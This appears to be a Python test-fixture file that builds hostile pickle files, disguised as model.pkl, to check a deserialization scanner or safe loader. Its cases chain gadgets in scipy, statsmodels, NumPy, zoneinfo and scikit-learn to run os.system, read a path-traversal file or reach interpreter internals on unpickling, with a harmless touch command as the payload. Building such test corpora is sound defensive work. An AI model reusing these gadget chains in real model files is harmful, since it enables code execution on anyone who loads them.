"""State of tabular libraries that runs something when it is restored, behind names that honest models hold."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from corpora import opcodes as op
from corpora.case import Case, hostile


def _new(module: str, name: str) -> bytes:
    return op.name(module, name) + op.EMPTY_TUPLE + op.NEWOBJ


def _state(**values: bytes) -> bytes:
    return (
        op.EMPTY_DICT
        + b"".join(op.text(key) + value + op.SETITEM for key, value in values.items())
        + op.BUILD
    )


def _program(folder: Path) -> str:
    return f"__import__('os').system({op.touch(folder)!r})"


def _pickles() -> dict[str, tuple[str, Callable[[Path], bytes]]]:
    uniform = ("scipy.stats._continuous_distns", "uniform_gen")
    data = ("statsmodels.base.data", "PandasData")
    getattr_ = op.name("builtins", "getattr")
    return {
        "distribution-program": (
            "scipy runs a text of the state when a distribution is restored",
            lambda f: _new(*uniform) + _state(_parse_arg_template=op.text(_program(f))),
        ),
        "distribution-default": (
            "the same text as scipy writes it, with a call as a parameter's default",
            lambda f: (
                _new(*uniform)
                + _state(
                    _parse_arg_template=op.text(
                        f"\ndef _parse_args(self, a={_program(f)},  loc=0, scale=1):\n    return (a, ), loc, scale\n"
                    )
                )
            ),
        ),
        "formula-program": (
            "statsmodels evaluates the formula of the state",
            lambda f: (
                _new(*data)
                + _state(restore_design_info=op.TRUE, formula=op.text(f"y ~ {_program(f)}"), frame=op.NONE)
            ),
        ),
        "formula-attribute": (
            "a formula that reaches the interpreter through a function that formulas may call",
            lambda _: (
                _new(*data)
                + _state(
                    restore_design_info=op.TRUE, formula=op.text("y ~ np.log.__class__(x)"), frame=op.NONE
                )
            ),
        ),
        "ufunc-of-os": (
            "NumPy's reconstructor imports what it is told to",
            lambda _: op.call(op.name("numpy.core", "_ufunc_reconstruct"), op.text("os"), op.text("system")),
        ),
        "ufunc-private": (
            "a private name of a module that has ufuncs",
            lambda _: op.call(
                op.name("numpy.core", "_ufunc_reconstruct"), op.text("numpy"), op.text("__builtins__")
            ),
        ),
        "getattr-of-a-class": (
            "getattr as picklers write it, of another class",
            lambda _: op.call(getattr_, op.name("zoneinfo", "ZoneInfo"), op.text("__subclasses__")),
        ),
        "getattr-of-an-instance": (
            "getattr of a distribution, of what is no method of its own",
            lambda _: op.call(getattr_, _new(*uniform), op.text("__class__")),
        ),
        "time-zone-path": (
            "a time zone that is a path",
            lambda _: (
                op.call(getattr_, op.name("zoneinfo", "ZoneInfo"), op.text("_unpickle"))
                + op.MARK
                + op.text("../../../etc/hostname")
                + op.TRUE
                + op.TUPLE
                + op.REDUCE
            ),
        ),
        "vectorize-system": (
            "a vectorised function that is none of a distribution's methods",
            lambda _: _new("numpy", "vectorize") + _state(pyfunc=op.name("posix", "system")),
        ),
        "vectorize-eval": (
            "a vectorised function by a name that is good elsewhere",
            lambda _: _new("numpy", "vectorize") + _state(pyfunc=op.name("numpy", "log1p")),
        ),
        "gensim-of-a-file": (
            "a model class kept as a value, which reads a file when it is called",
            lambda _: (
                _new("sklearn.preprocessing._function_transformer", "FunctionTransformer")
                + _state(func=op.name("gensim.models.word2vec", "Word2Vec"))
            ),
        ),
        "slots-of-another": (
            "attributes set one by one that no interpolator has",
            lambda _: (
                _new("scipy.interpolate._cubic", "CubicSpline")
                + op.MARK
                + op.NONE
                + op.EMPTY_DICT
                + op.text("__class__")
                + op.NONE
                + op.SETITEM
                + op.TUPLE
                + op.BUILD
            ),
        ),
    }


def cases() -> list[Case]:
    """All of them as pickles."""
    return [
        hostile(
            f"tabular-{name}", "model.pkl", lambda f, build=build: op.stream(build(f)), text, ("pickle-*",)
        )  # type: ignore[misc]
        for name, (text, build) in _pickles().items()
    ]
